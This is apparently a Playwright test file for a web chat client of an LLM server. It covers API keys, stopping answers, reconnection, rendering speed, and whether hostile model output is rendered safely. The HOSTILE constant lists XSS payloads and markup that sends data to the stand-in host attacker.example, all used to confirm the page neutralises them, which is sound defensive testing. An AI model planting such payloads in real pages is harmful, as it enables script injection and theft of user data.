/** The page over a server: nano-vllm's own with a key, the server that sends the page itself, and one that says hostile things. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import type { LLM } from "../../src/index.ts";
import type { WebFiles } from "../../src/server/web-app.ts";
import { launchChromium } from "../browser/chromium.ts";
import { browserOrReason } from "../browser/page.ts";
import { loadDemo, serve } from "../server/serving.ts";
import {
	atFirstWords,
	lastAnswer,
	type OpenedPage,
	openPage,
	say,
	setSampling,
} from "./open.ts";
import { type AppSite, type BuiltApp, buildApp, serveApp } from "./site.ts";
import { serveText } from "./text-server.ts";

const KEY = "a-secret";
const QUESTION = "What is a KV cache?";
const GREEDY = { Temperature: "0", "Longest answer, tokens": "24" };

const browser = await browserOrReason(() => launchChromium());
const skip = typeof browser === "string" && `no browser: ${browser}`;
const limits = { skip, timeout: 120_000 };

let app: BuiltApp;
let site: AppSite;
let llm: LLM;
let expected: string;

before(async () => {
	if (skip) return;
	app = await buildApp();
	site = await serveApp(app);
	llm = await loadDemo();
	const [{ outputs }] = await llm.chat([{ role: "user", content: QUESTION }], {
		...llm.defaultSamplingParams,
		temperature: 0,
		maxTokens: 24,
	});
	expected = outputs[0].text.trim();
});
after(async () => {
	if (typeof browser === "string") return;
	await site.close();
	await browser.close();
});

async function open(
	t: { after(fn: () => Promise<void>): void },
	url = site.url,
): Promise<Page> {
	const opened: OpenedPage = await openPage(browser as Browser, url);
	t.after(() => opened.close());
	return opened.page;
}

async function connect(
	page: Page,
	address: string,
	key: string,
): Promise<void> {
	await page.goto(`${site.url}#/settings`);
	await page.getByLabel("A server").check();
	await page.getByLabel("Address").fill(address);
	await page.getByLabel("API key").fill(key);
	await page.getByRole("button", { name: "Connect" }).click();
}

test(
	"a server with a key: refused without it in words, and answers with it",
	limits,
	async (t) => {
		const { url } = await serve(llm, {
			apiKey: [KEY],
			allowedOrigins: [new URL(site.url).origin],
		});
		const page = await open(t);
		await connect(page, url, "");
		const refusal = page.getByRole("alert");
		await refusal.waitFor();
		assert.match(await refusal.innerText(), /wants an API key.*Set the key/);
		await connect(page, `${url}/v1/`, KEY);
		await page.locator(".dot.ready").waitFor();
		await page.goto(`${site.url}#/chat`);
		await setSampling(page, GREEDY);
		assert.equal(await say(page, QUESTION), expected);
		await page.getByRole("button", { name: "Probabilities" }).click();
		await page.getByRole("option").nth(23).waitFor();
		const kept = await page.evaluate(() => [
			JSON.stringify(localStorage),
			JSON.stringify(sessionStorage),
		]);
		assert.ok(!kept[0].includes(KEY) && kept[1].includes(KEY));
		// Found again as it was left.
		await page.reload();
		await page.locator(".dot.ready").waitFor();
		assert.equal(await lastAnswer(page), expected);
	},
);

function pressStop(): void {
	for (const button of document.querySelectorAll("button"))
		if (button.textContent === "Stop") button.click();
}

test(
	"an answer stopped in the page is stopped on the server",
	limits,
	async (t) => {
		const { url } = await serve(llm, { allowedOrigins: ["*"] });
		const page = await open(t);
		await connect(page, url, "");
		await page.locator(".dot.ready").waitFor();
		await page.goto(`${site.url}#/chat`);
		await page.getByLabel("Message").fill("Tell me a long story.");
		const stopped = await atFirstWords(page, pressStop);
		await page.keyboard.press("Enter");
		await stopped();
		await page.getByText("Stopped.").waitFor();
		for (let i = 0; llm.stats().numRequestsRunning > 0 && i < 100; i++)
			await page.waitForTimeout(20);
		assert.equal(llm.stats().numRequestsRunning, 0);
	},
);

test(
	"the page that a server sends uses that server, isolated, on a first visit",
	limits,
	async (t) => {
		const types = {
			html: "text/html",
			js: "text/javascript",
			css: "text/css",
			svg: "image/svg+xml",
		};
		const webFiles: WebFiles = async (path) => {
			const content = app.get(path);
			if (content === undefined) return null;
			const type = types[path.split(".").at(-1) as keyof typeof types];
			const body = Uint8Array.from(Buffer.from(content));
			return { body, type: type ?? "application/octet-stream" };
		};
		const { url } = await serve(llm, {
			webFiles,
			enableInspector: true,
			enableInspectorControl: true,
		});
		const page = await open(t, `${url}/`);
		await page.locator(".dot.ready").waitFor();
		assert.match(
			await page.locator(".engine-chip").innerText(),
			/demo-model\s+server/,
		);
		assert.ok(await page.evaluate(() => crossOriginIsolated));
		await setSampling(page, GREEDY);
		assert.equal(await say(page, QUESTION), expected);
	},
);

test(
	"an address where nothing answers is told as one, and what to do",
	limits,
	async (t) => {
		const page = await open(t);
		await connect(page, "http://127.0.0.1:9", "");
		const trouble = page.getByRole("alert");
		await trouble.waitFor();
		assert.match(
			await trouble.innerText(),
			/does not answer.*Check that it runs/,
		);
	},
);

test(
	"a server that goes away: the question is kept, and asked again when it is back",
	limits,
	async (t) => {
		const first = await serveText("Hello.");
		const page = await open(t);
		await connect(page, first.url, "");
		await page.locator(".dot.ready").waitFor();
		await page.goto(`${site.url}#/chat`);
		assert.equal(await say(page, "Hi"), "Hello.");
		await first.close();
		await say(page, "Still there?");
		const trouble = page.locator(".answer").last().getByRole("alert");
		assert.match(await trouble.innerText(), /does not answer/);
		await page.locator(".dot.failed").waitFor();
		const second = await serveText(
			"Again.",
			"text-model",
			Number(new URL(first.url).port),
		);
		t.after(second.close);
		await page.getByRole("button", { name: "Load again" }).click();
		await page.locator(".dot.ready").waitFor();
		await page.getByRole("button", { name: "Answer again" }).last().click();
		await page.locator(".answer", { hasText: "Again." }).waitFor();
		assert.equal(await page.locator(".question").count(), 2);
	},
);

const HOSTILE = `
<script>globalThis.attacked = 1</script>
<img src=x onerror="globalThis.attacked = 2">
<svg onload="globalThis.attacked = 3"></svg>

[a link](javascript:globalThis.attacked=4) and [another](<JaVaScRiPt:globalThis.attacked=5>)
and [data](data:text/html,<script>globalThis.attacked=6</script>)

![seen](https://attacker.example/pixel.png?secret)

<iframe srcdoc="<script>parent.attacked = 7</script>"></iframe>
<a href="x" onclick="globalThis.attacked = 8">press</a>
<style>body { display: none }</style>

\`\`\`"><img src=x onerror=globalThis.attacked=9>
<img src=x onerror="globalThis.attacked = 10">
\`\`\`

| <img src=x onerror="globalThis.attacked = 11"> |
|---|
| <form action="https://attacker.example"><input name="secret"></form> |

A last, harmless [word](https://example.org).
`;

test("HTML, scripts and pictures in an answer stay text", limits, async (t) => {
	const hostile = await serveText(HOSTILE);
	t.after(hostile.close);
	const page = await open(t);
	const asked: string[] = [];
	page.on("request", (request) => asked.push(request.url()));
	await connect(page, hostile.url, "");
	await page.locator(".dot.ready").waitFor();
	await page.goto(`${site.url}#/chat`);
	await say(page, "Attack me");
	const answer = page.locator(".answer .markdown");
	assert.equal(
		await answer
			.locator("img, script, svg, iframe, style, form, [onclick], [onerror]")
			.count(),
		0,
	);
	const targets = await answer
		.locator("a")
		.evaluateAll((links) =>
			links.map((it) => (it as HTMLAnchorElement).getAttribute("href")),
		);
	for (const target of targets) assert.match(target ?? "https:", /^https:/);
	assert.ok(targets.includes("https://example.org"));
	await page.waitForTimeout(100);
	assert.equal(
		await page.evaluate(() => (globalThis as { attacked?: number }).attacked),
		undefined,
	);
	assert.ok(!asked.some((url) => url.includes("attacker.example")));
	assert.match(await answer.innerText(), /<script>globalThis.attacked = 1/);
	await page.getByRole("button", { name: /Copy .* code/ }).waitFor();
});

test(
	"a very long answer is drawn in passing: the page stays quick",
	limits,
	async (t) => {
		const paragraph =
			"A paragraph of an answer that goes on and on, with *stress* and `code`.\n\n";
		const hostile = await serveText(paragraph.repeat(600));
		t.after(hostile.close);
		const page = await open(t);
		await connect(page, hostile.url, "");
		await page.locator(".dot.ready").waitFor();
		await page.goto(`${site.url}#/chat`);
		const longest = page.evaluate(longestTask);
		await say(page, "Go on");
		const numBlocks = await page.locator(".answer .markdown > div").count();
		assert.equal(numBlocks, 600);
		await page.evaluate(() => dispatchEvent(new Event("measured")));
		const ms = await longest;
		t.diagnostic(`longest task: ${ms.toFixed()} ms`);
		// All of it parsed and drawn with every frame would take seconds.
		assert.ok(ms < 1000, `${ms}`);
	},
);

/** Of the page's main thread until "measured", in ms. */
function longestTask(): Promise<number> {
	let longest = 0;
	const observer = new PerformanceObserver((list) => {
		for (const { duration } of list.getEntries())
			longest = Math.max(longest, duration);
	});
	observer.observe({ type: "longtask" });
	return new Promise((resolve) => {
		addEventListener("measured", () => resolve(longest), { once: true });
	});
}
